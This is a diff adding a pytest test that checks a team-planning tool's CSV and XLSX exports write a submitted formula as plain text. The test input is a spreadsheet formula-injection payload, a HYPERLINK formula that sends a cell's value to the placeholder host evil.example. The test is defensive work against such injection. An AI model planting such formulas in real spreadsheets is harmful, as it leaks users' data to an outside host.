@@ -86,3 +86,31 @@ def test_xlsx_text_cells_are_strings_never_formulas(what, text):
 )
 def test_csv_cell_table(value, expected):
     assert spreadsheets.csv_cell(value) == expected
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("what", ["plans", "progress"])
+def test_a_filed_plan_item_with_a_formula_is_exported_inert(tmp_path, engine, client, demo_team, fmt, what):
+    """End to end: a person files the issue's item text; `planloop export` writes it as text."""
+    from bot.cli import main
+
+    text = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    values = {"item1_text": text, "item1_kpi": "conversion_rate", "item1_target": "+2%"}
+    res = client.post(
+        "/sim/api/act", json={"as": "lilei", "chat": "dm", "action": "plan.submit", "values": values}
+    )
+    assert res.status_code == 200
+    config = tmp_path / "planloop.toml"
+    config.write_text(f'[server]\ndatabase_url = "{engine.url.render_as_string(hide_password=False)}"\n')
+    out = tmp_path / f"export.{fmt}"
+    args = ["--config", str(config), "export", what, "--week", "2026-W48", "--format", fmt, "-o", str(out)]
+    assert main(args) == 0
+    if fmt == "csv":
+        rows = _csv_rows(out.read_bytes())
+        assert ["'" + text] == [c for r in rows for c in r if text in c]
+    else:
+        with zipfile.ZipFile(out) as book:
+            xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
+        assert b"<f>" not in xml
+        cells = [c for r in load_workbook(out).active.iter_rows() for c in r if c.value == text]
+        assert [c.data_type for c in cells] == ["s"]
